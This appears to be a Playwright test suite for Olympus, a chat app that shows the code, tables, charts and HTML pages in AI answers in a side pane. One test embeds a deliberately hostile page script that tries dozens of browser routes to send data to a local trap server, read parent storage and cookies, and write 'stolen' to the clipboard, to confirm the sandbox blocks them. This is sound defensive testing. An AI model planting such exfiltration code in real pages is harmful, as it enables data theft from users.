import { readFileSync } from "node:fs";
import type { Page } from "playwright/test";
import { createSocket } from "node:dgram";
import type { AddressInfo } from "node:net";
import { startProviderServer, startTrapServer, type ProviderServer, type TrapServer } from "#core/testing";
import { expect, setUpAndOpen, test as base, type WebHost } from "./host.ts";

/** A provider that answers what it is told, chosen in the page. */
const startProvider = async (page: Page, host: WebHost): Promise<ProviderServer> => {
  const server = await startProviderServer("openai");
  server.script({ type: "answer", answer: { text: ["OK"] } });
  const { csrfToken } = (await (await page.request.get(`${host.url}/auth/status`)).json()) as { csrfToken: string };
  const added = await page.request.post(`${host.url}/api/rest/providers`, {
    data: { kind: "compatible", name: "Scripted", baseUrl: `${server.origin}/v1`, model: "scripted", key: "a-key" },
    headers: { origin: host.url, "x-olympus-csrf": csrfToken },
  });
  expect(added.ok(), await added.text()).toBe(true);
  await page.getByRole("button", { name: /^Model:/ }).click();
  await page.getByRole("menuitemradio", { name: /Scripted/ }).click();
  return server;
};

interface Elsewhere {
  readonly trap: TrapServer;
  /** Where a datagram would arrive. */
  readonly udpPort: number;
  readonly datagramCount: () => number;
}

const test = base.extend<{ provider: ProviderServer; elsewhere: Elsewhere }>({
  provider: async ({ app, host }, provide) => {
    const server = await startProvider(app, host);
    await provide(server);
    await server.close();
  },
  elsewhere: async ({ browserName: _unused }, provide) => {
    const trap = await startTrapServer();
    const socket = createSocket("udp4");
    let datagrams = 0;
    socket.on("message", () => (datagrams += 1));
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    await provide({ trap, udpPort: (socket.address() as AddressInfo).port, datagramCount: () => datagrams });
    socket.close();
    await trap.close();
  },
});

const fence = (info: string, code: string): string => `\`\`\`${info}\n${code}\n\`\`\``;
const answers = (page: Page) => page.getByRole("article", { name: "Answer", exact: true });
const pane = (page: Page) => page.getByRole("complementary", { name: "What the answers made" });

/** Asks and waits for the whole answer. */
const answerWith = async (page: Page, provider: ProviderServer, text: string) => {
  provider.script({ type: "answer", answer: { text: text.match(/[\s\S]{1,200}/g) ?? [] } });
  const before = await answers(page).count();
  await page.getByRole("textbox", { name: "Your question" }).fill(`Make thing ${before + 1}, please.`);
  await page.keyboard.press("Enter");
  await expect(answers(page)).toHaveCount(before + 1);
  await expect(answers(page).last()).toHaveAttribute("aria-busy", "false", { timeout: 20_000 });
};

const script = (last: string): string =>
  [
    "# garden.py",
    "from datetime import date",
    "",
    ...Array.from({ length: 12 }, (_none, index) => `beds[${index}] = "row ${index}"`),
    last,
  ].join("\n");

test("code opens beside the answer with its versions, and the window keeps working by keyboard", async ({ app, provider }) => {
  await answerWith(app, provider, `Here it is.\n\n${fence("python", script("print(1)"))}\n`);
  const open = answers(app).last().getByRole("button", { name: "Open garden.py" });
  await open.focus();
  await app.keyboard.press("Enter");
  await expect(pane(app)).toBeFocused();
  await expect(pane(app).getByRole("heading", { name: "garden.py" })).toBeVisible();
  const listing = pane(app).getByRole("group", { name: "garden.py" });
  await expect(listing.locator("code")).toHaveText(script("print(1)"));
  await expect(listing.locator(".md-line-numbers")).toHaveText(Array.from({ length: 16 }, (_none, index) => index + 1).join("\n"));
  await expect(listing.locator("[class^=md-t-]").first()).toBeVisible();

  const saving = app.waitForEvent("download");
  await pane(app).getByRole("button", { name: "Save as a file" }).click();
  const saved = await saving;
  expect([saved.suggestedFilename(), readFileSync(await saved.path(), "utf8")]).toEqual(["garden.py", script("print(1)")]);

  await app.keyboard.press("Escape");
  await expect(pane(app)).toBeHidden();
  await expect(open).toBeFocused();

  await answerWith(app, provider, `Better.\n\n${fence("python", script("print(2)"))}\n`);
  await answers(app).last().getByRole("button", { name: "Open garden.py" }).click();
  await expect(pane(app).getByRole("heading")).toContainText("v2");
  await pane(app).getByRole("radio", { name: "Changes since v1" }).click();
  const diff = pane(app).getByTestId("diff");
  await expect(diff).toContainText("print(1)");
  await expect(diff).toContainText("print(2)");
  await expect(diff).not.toContainText("beds[0]");

  await pane(app)
    .getByRole("button", { name: /Choose one of 2/ })
    .click();
  await app.getByRole("menuitem", { name: "garden.py (v1)" }).click();
  await expect(pane(app).getByRole("group", { name: "garden.py" }).locator("code")).toContainText("print(1)");
  await pane(app).getByRole("button", { name: "Show the newest (v2)" }).click();
  // How each was looked at is remembered.
  await expect(diff).toBeVisible();
  await pane(app).getByRole("radio", { name: "Source" }).click();
  await expect(pane(app).getByRole("group", { name: "garden.py" }).locator("code")).toContainText("print(2)");

  const edge = app.getByRole("separator", { name: "Width of this pane" });
  const width = Number(await edge.getAttribute("aria-valuenow"));
  await edge.focus();
  await app.keyboard.press("ArrowRight");
  await expect(edge).toHaveAttribute("aria-valuenow", String(width - 32));
  await app.reload();
  await answers(app).last().getByRole("button", { name: "Open garden.py" }).click();
  await expect(app.getByRole("separator", { name: "Width of this pane" })).toHaveAttribute("aria-valuenow", String(width - 32));
});

test("a table sorts, scrolls through thousands of rows and becomes a chart", async ({ app, provider }) => {
  const rows = Array.from({ length: 5000 }, (_none, index) => `"Plot ${index}, north",${(index * 7919) % 5000},m²`);
  await answerWith(app, provider, `Plots:\n\n${fence("csv plots.csv", ["plot,area,unit", ...rows].join("\n"))}\n`);
  await answers(app).last().getByRole("button", { name: "Open plots.csv" }).click();
  const table = pane(app).getByRole("table", { name: "plots.csv" });
  await expect(pane(app).getByText("5,000 rows, 3 columns")).toBeVisible();
  const firstRow = table.getByRole("row").nth(1);
  await expect(firstRow).toContainText("Plot 0, north");
  expect(await table.getByRole("row").count()).toBeLessThan(80);
  await expect(firstRow.getByRole("cell").nth(1)).toHaveCSS("text-align", "right");

  await table.getByRole("button", { name: "area" }).click();
  await table.getByRole("button", { name: "area" }).click();
  await expect(table.getByRole("columnheader", { name: "area" })).toHaveAttribute("aria-sort", "descending");
  await expect(firstRow.getByRole("cell").nth(1)).toHaveText("4999");
  await table.focus();
  await app.keyboard.press("End");
  await expect(table.getByRole("row").last().getByRole("cell").nth(1)).toHaveText("0");

  await pane(app).getByRole("radio", { name: "Chart" }).click();
  const figure = pane(app).getByRole("figure", { name: "Chart: plots.csv" });
  await expect(figure.locator("svg path.recharts-curve")).toHaveCount(1, { timeout: 15_000 });
  await expect(figure.getByRole("table").getByRole("columnheader")).toHaveText(["plot", "area"]);
});

const chart = (type: string, more: object = {}): string =>
  JSON.stringify({
    type,
    title: "Rent and heating",
    labels: ["January", "February", "March", "April"],
    series: [
      { name: "Rent", values: [850, 850, 880, 880] },
      { name: "Heating", values: [140, 120, 90, 40] },
    ],
    yLabel: "EUR",
    unit: "EUR",
    ...more,
  });

test("charts are drawn with their figures beside them, in both themes, and saved as pictures", async ({ app, provider }) => {
  const scatter = {
    type: "scatter",
    title: "Sizes",
    series: [
      {
        name: "Flats",
        points: [
          [40, 600],
          [55, 800],
          [80, 1100],
        ],
      },
    ],
  };
  const kinds = ["bar", "line", "area", "pie"].map((type) => fence("chart", chart(type, { title: `A ${type} chart` })));
  await answerWith(
    app,
    provider,
    ["Look:", ...kinds, fence("chart", JSON.stringify(scatter)), fence("chart", '{"type":"bar"}'), fence("chart", "{")].join("\n\n"),
  );
  await answers(app).last().getByRole("button", { name: "Open A bar chart" }).click();
  const figure = pane(app).getByRole("figure");
  await expect(figure.locator("svg .recharts-bar-rectangle")).toHaveCount(8, { timeout: 15_000 });
  await expect(figure.getByRole("table").getByRole("row")).toHaveCount(5);
  await expect(figure.getByRole("table").getByRole("row").nth(4)).toHaveText("April88040");
  for (const theme of ["light", "dark"]) {
    await app.evaluate((name) => (document.documentElement.dataset["theme"] = name), theme);
    await app.screenshot({ path: test.info().outputPath(`chart-${theme}.png`) });
  }
  await app.evaluate(() => (document.documentElement.dataset["theme"] = "light"));

  const save = async (ending: string) => {
    const saving = app.waitForEvent("download");
    await pane(app).getByRole("button", { name: "Save as a file" }).click();
    await app.getByRole("menuitem", { name: `Save as ${ending}` }).click();
    const saved = await saving;
    return { name: saved.suggestedFilename(), content: readFileSync(await saved.path()) };
  };
  const png = await save("PNG");
  expect([png.name, png.content.subarray(1, 4).toString(), png.content.length > 5000]).toEqual(["A bar chart.png", "PNG", true]);
  const svg = await save("SVG");
  expect(svg.content.toString()).toMatch(/^<svg[\s\S]*January[\s\S]*<\/svg>$/);
  expect(svg.content.toString()).not.toMatch(/var\(|oklch|light-dark/);
  expect((await save("CSV")).content.toString()).toBe(
    "Label,Rent,Heating\nJanuary,850,140\nFebruary,850,120\nMarch,880,90\nApril,880,40\n",
  );

  const show = async (name: string) => {
    await pane(app)
      .getByRole("button", { name: /Choose one of 7/ })
      .click();
    await app.getByRole("menuitem", { name, exact: true }).click();
  };
  await show("A line chart");
  await expect(figure.locator("svg .recharts-line-curve")).toHaveCount(2);
  await show("A area chart");
  await expect(figure.locator("svg .recharts-area-area")).toHaveCount(2);
  await show("A pie chart");
  await expect(figure.locator("svg .recharts-pie-sector")).toHaveCount(4);
  await show("Sizes");
  await expect(figure.locator("svg .recharts-scatter-symbol")).toHaveCount(3);
  await pane(app).getByRole("radio", { name: "Table" }).click();
  await expect(pane(app).getByRole("table", { name: "Sizes" }).getByRole("row")).toHaveCount(4);
  await show("Chart");
  await expect(pane(app).getByText("Something is wrong at “labels”")).toBeVisible();
  await show("Chart 2");
  await expect(pane(app).getByText("not valid JSON")).toBeVisible();
});

const page = (title: string, body: string): string =>
  fence("html", `<!doctype html><html><head><title>${title}</title></head><body>${body}</body></html>`);
const runs = (title: string, code: string): string => page(title, `<p id="said">not run</p>\n<script>${code}</script>`);

/** Everything a page can try without leaving; each try says how it ended. */
const everythingAt = (origin: string, udpPort: number): string => `
const said = {};
const say = (name, value) => { said[name] = String(value).slice(0, 60); document.getElementById("said").textContent = JSON.stringify(said); };
const attempt = (name, work) => { try { Promise.resolve(work()).then((value) => say(name, value), (error) => say(name, "refused " + error.name)); } catch (error) { say(name, "refused " + error.name); } };
const add = (html) => document.head.insertAdjacentHTML("beforeend", html);
const T = "${origin}";
attempt("fetch", () => fetch(T + "/fetch", { mode: "no-cors" }));
attempt("keepalive", () => fetch(T + "/keep", { method: "POST", body: "x", mode: "no-cors", keepalive: true }));
attempt("xhr", () => { const request = new XMLHttpRequest(); request.open("GET", T + "/xhr"); request.send(); return "sent"; });
attempt("img", () => { new Image().src = T + "/img?data"; });
attempt("css", () => add("<style>@import '" + T + "/import'; body { background: url(" + T + "/css) } @font-face { font-family: x; src: url(" + T + "/font) } p { font-family: x }</style>"));
attempt("links", () => { for (const rel of ["prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "stylesheet", "icon", "manifest", "prerender"]) add("<link rel=" + rel + " as=script href='" + T + "/" + rel + "'>"); });
attempt("speculation", () => { const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [T + "/speculation"], eagerness: "immediate" }] }); document.head.append(rules); });
attempt("media", () => document.body.insertAdjacentHTML("beforeend", "<video autoplay src='" + T + "/video'></video><object data='" + T + "/object'></object><embed src='" + T + "/embed'><iframe src='" + T + "/frame'></iframe><svg><image href='" + T + "/svg'/><use href='" + T + "/use#a'/></svg><iframe srcdoc='<img src=" + T + "/srcdoc>'></iframe>"));
attempt("script", () => { const script = document.createElement("script"); script.src = T + "/script.js"; document.head.append(script); });
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + T + "/worker')"]))));
attempt("serviceWorker", () => navigator.serviceWorker.register("/artifact-run.html"));
attempt("webSocket", () => new WebSocket(T.replace("http", "ws") + "/ws"));
attempt("eventSource", () => new EventSource(T + "/events"));
attempt("beacon", () => navigator.sendBeacon(T + "/beacon", "data"));
attempt("webRtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }).createDataChannel("x"));
attempt("webTransport", () => new WebTransport(T.replace("http", "https")));
attempt("form", () => { document.body.insertAdjacentHTML("beforeend", "<form id=f method=post action='" + T + "/form'><input name=a value=data></form>"); document.getElementById("f").submit(); });
attempt("blankForm", () => { const form = document.getElementById("f"); form.target = "_blank"; form.submit(); });
attempt("open", () => String(window.open(T + "/open")));
attempt("top", () => { top.location.href = T + "/top"; return "assigned"; });
attempt("download", () => { const link = document.createElement("a"); link.href = "data:text/plain,x"; link.download = "x.txt"; document.body.append(link); link.click(); });
attempt("ping", () => { const link = document.createElement("a"); link.href = "#x"; link.ping = T + "/ping"; document.body.append(link); link.click(); });
attempt("parentDom", () => parent.document.title);
attempt("parentStorage", () => parent.localStorage.length);
attempt("frameElement", () => String(window.frameElement));
attempt("storage", () => localStorage.length);
attempt("cookie", () => { document.cookie = "a=b"; return document.cookie; });
attempt("database", () => new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("opened"); open.onerror = () => reject(open.error); }));
attempt("caches", () => caches.open("x"));
attempt("clipboard", () => navigator.clipboard.writeText("stolen"));
attempt("notification", () => Notification.requestPermission());
attempt("place", () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, (error) => reject({ name: error.code }))));
attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
attempt("fullscreen", () => document.documentElement.requestFullscreen());
attempt("dialog", () => String(confirm("?")));
attempt("origin", () => self.origin);
parent.postMessage("olympus-port", "*");
say("done", "yes");
`;

test("a hostile page reaches nothing: no request, no connection, no datagram, nothing of Olympus", async ({
  page: app,
  host,
  elsewhere,
}) => {
  const { trap, udpPort, datagramCount } = elsewhere;
  await setUpAndOpen(app, host);
  const provider = await startProvider(app, host);
  const opened: string[] = [];
  app.context().on("page", (other) => opened.push(other.url()));
  app.on("download", (download) => opened.push(download.url()));
  app.on("dialog", (dialog) => opened.push(dialog.message()));
  const leaving = {
    location: `location = "${trap.origin}/location?data"`,
    replaced: `location.replace("${trap.origin}/replace?data")`,
    refreshed: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=${trap.origin}/refresh'>")`,
    clicked: `const link = document.createElement("a"); link.href = "${trap.origin}/click"; document.body.append(link); link.click()`,
    named: `const link = document.createElement("a"); link.href = "${trap.origin}/top-click"; link.target = "_top"; document.body.append(link); link.click()`,
    home: `location = "/"`,
    blob: `location = URL.createObjectURL(new Blob(["<script>fetch('${trap.origin}/blob')</" + "script>"], { type: "text/html" }))`,
  };
  await answerWith(
    app,
    provider,
    [
      "Pages:",
      runs("everything", everythingAt(trap.origin, udpPort)),
      ...Object.entries(leaving).map(([name, code]) => runs(name, `setTimeout(() => { ${code} }, 50)`)),
      page(
        "quiet",
        `<link rel=preconnect href="${trap.origin}"><img src="${trap.origin}/img" onerror="document.title='ran'"><meta http-equiv=refresh content="0;url=${trap.origin}/meta"><a href="${trap.origin}/link">a link</a><p id="said">not run</p>`,
      ),
    ].join("\n\n"),
  );
  const frame = pane(app).frameLocator("iframe");
  const open = async (name: string) => {
    await answers(app)
      .last()
      .getByRole("button", { name: `Open ${name}` })
      .click();
    await expect(frame.locator("#said")).toHaveText("not run");
  };

  await open("quiet");
  await frame.getByRole("link", { name: "a link" }).click();
  await expect(pane(app).getByText("It asks for files from elsewhere; they are not loaded.")).toBeVisible();

  await open("everything");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(frame.locator("#said")).toContainText('"done":"yes"');
  await expect(frame.locator("#said")).toContainText('"camera"');
  await app.waitForTimeout(1500);
  const said = JSON.parse(await frame.locator("#said").innerText()) as Record<string, string>;
  const refused = Object.entries(said).flatMap(([name, how]) => (how.startsWith("refused") ? name : []));
  expect(refused).toEqual(
    expect.arrayContaining(
      "fetch keepalive serviceWorker webRtc webTransport top parentDom parentStorage storage cookie database caches clipboard camera fullscreen".split(
        " ",
      ),
    ),
  );
  expect([said["open"], said["origin"], said["dialog"], said["frameElement"]]).toEqual(["null", "null", "false", "null"]);
  expect(await app.evaluate(() => navigator.clipboard.readText().catch(() => "unread"))).not.toBe("stolen");

  for (const name of Object.keys(leaving)) {
    await open(name);
    await pane(app).getByRole("button", { name: "Run" }).click();
    // The browser holds some tries back before the page is left, and answers others with a page of its own.
    await app.waitForTimeout(400);
    await expect(pane(app).getByText(/The page tried to leave and was ended|Its scripts run/)).toBeVisible();
    expect([name, new URL(app.url()).origin]).toEqual([name, host.url]);
  }
  expect([trap.requests, trap.connectionCount(), datagramCount(), opened]).toEqual([[], 0, 0, []]);
  // The trap is one: whoever reaches it is counted.
  await trap.send("a control", null);
  expect([trap.requests.length, trap.connectionCount()]).toEqual([1, 1]);
  await provider.close();
});

test("a page that floods or hangs is shut out, and the window goes on working", async ({ page: app, host }) => {
  await setUpAndOpen(app, host);
  const provider = await startProvider(app, host);
  await answerWith(
    app,
    provider,
    [
      "Pages:",
      runs(
        "flood",
        "setInterval(() => { for (let count = 0; count < 500; count += 1) parent.postMessage({ count, text: 'x'.repeat(1000) }, '*'); }, 1)",
      ),
      runs("hang", "setTimeout(() => { for (;;); }, 200)"),
    ].join("\n\n"),
  );
  const open = (name: string) =>
    answers(app)
      .last()
      .getByRole("button", { name: `Open ${name}` })
      .click();
  await open("flood");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(pane(app).getByText("more messages than Olympus takes")).toBeVisible();
  await expect(pane(app).getByRole("button", { name: "Run" })).toBeVisible();

  await open("hang");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(pane(app).getByText("does not respond")).toBeVisible({ timeout: 20_000 });
  const longestMs = await app.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let last = performance.now();
        let longest = 0;
        const timer = setInterval(() => {
          longest = Math.max(longest, performance.now() - last);
          last = performance.now();
        }, 20);
        setTimeout(() => {
          clearInterval(timer);
          resolve(longest);
        }, 1500);
      }),
  );
  expect(longestMs).toBeLessThan(500);
  // A click of Playwright's asks every frame of the page, also the one that hangs; the browser's own does not.
  const place = await pane(app).getByRole("button", { name: "Stop" }).first().boundingBox();
  if (place === null) throw new Error("no button");
  const session = await app.context().newCDPSession(app);
  for (const type of ["mousePressed", "mouseReleased"] as const)
    void session.send("Input.dispatchMouseEvent", { type, x: place.x + 10, y: place.y + 10, button: "left", clickCount: 1 });
  await expect(pane(app).frameLocator("iframe").locator("#said")).toHaveText("not run");
  await provider.close();
});

test("in a small window the pane lies over the conversation, in both themes, and is reached and left by keyboard", async ({
  app,
  provider,
}) => {
  await app.setViewportSize({ width: 900, height: 700 });
  const card = `<style>body{font:16px system-ui;margin:2rem}.card{padding:1.5rem;border-radius:1rem;background:#e7f2ec}</style><div class="card"><h1>Our garden</h1><p id="said">Twelve beds</p></div>`;
  await answerWith(
    app,
    provider,
    [
      "Here:",
      page("Garden", card),
      fence("md", "# Plan\n\n- sow\n- water"),
      fence(
        "svg",
        '<svg viewBox="0 0 40 40" xmlns="http://www.w3.org/2000/svg"><title>Sun</title><circle cx="20" cy="20" r="16" fill="orange"/></svg>',
      ),
    ].join("\n\n"),
  );
  await answers(app).last().getByRole("button", { name: "Open Garden" }).click();
  await expect(pane(app).frameLocator("iframe").getByRole("heading", { name: "Our garden" })).toBeVisible();
  await expect(pane(app).getByRole("button", { name: "Run" })).toHaveCount(0);
  for (const theme of ["light", "dark"]) {
    await app.evaluate((name) => (document.documentElement.dataset["theme"] = name), theme);
    await app.screenshot({ path: test.info().outputPath(`artifact-page-${theme}.png`) });
  }
  await app.keyboard.press("Control+k");
  await app.keyboard.type("next of what the answers");
  await app.keyboard.press("Enter");
  await expect(pane(app).getByRole("heading", { name: "Plan", level: 3 })).toBeVisible();
  await pane(app).getByRole("radio", { name: "Source" }).click();
  await expect(pane(app).getByRole("group", { name: "Plan" }).locator("code")).toHaveText("# Plan\n\n- sow\n- water");
  await app.keyboard.press("Escape");
  await expect(pane(app)).toBeHidden();
  await answers(app).last().getByRole("button", { name: "Open Sun" }).click();
  await expect(pane(app).frameLocator("iframe").locator("circle")).toBeVisible();
  await pane(app).getByRole("button", { name: "Fill the window" }).click();
  const box = await pane(app).boundingBox();
  expect([box?.x, box?.width]).toEqual([0, 900]);
  await app.keyboard.press("Escape");
  await expect(pane(app)).toBeVisible();
  await pane(app).getByRole("button", { name: "Close" }).click();
  await expect(pane(app)).toBeHidden();
});

test("the pane follows an answer that is being written without holding the window up", async ({ app, provider }) => {
  const rows = Array.from({ length: 1500 }, (_none, index) => `${index},row ${index}\n`);
  const parts = [
    "Rows:\n\n```csv grow.csv\nn,name\n",
    ...Array.from({ length: 100 }, (_none, index) => rows.slice(index * 15, index * 15 + 15).join("")),
    "```\n",
  ];
  provider.script({ type: "paced", answer: { text: parts }, everyMs: 60 });
  await app.getByRole("textbox", { name: "Your question" }).fill("Rows, please.");
  await app.keyboard.press("Enter");
  await answers(app).last().getByRole("button", { name: "Open grow.csv" }).click();
  await expect(pane(app).getByText("Being written")).toBeVisible();
  await pane(app).getByRole("radio", { name: "Source" }).click();
  const listing = pane(app).getByRole("group", { name: "grow.csv" }).locator("code");
  const before = (await listing.innerText()).length;
  await expect.poll(async () => (await listing.innerText()).length).toBeGreaterThan(before);
  await expect(pane(app).getByText("Being written")).toBeHidden({ timeout: 30_000 });
  await pane(app).getByRole("radio", { name: "Table" }).click();
  await expect(pane(app).getByText("1,500 rows, 2 columns")).toBeVisible();
});
